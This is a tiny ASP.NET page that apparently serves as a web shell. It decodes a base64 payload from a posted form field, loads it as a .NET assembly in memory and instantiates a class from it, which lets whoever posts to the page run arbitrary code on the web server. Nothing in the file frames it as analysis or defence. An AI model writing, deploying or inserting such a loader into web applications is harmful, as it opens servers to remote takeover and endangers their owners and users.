<%@ Page Language="C#" %><%
byte[] raw = Convert.FromBase64String(Request.Form["a"]);
var asm = AppDomain.CurrentDomain.Load(raw);
asm.CreateInstance("P").Equals(this);
%>
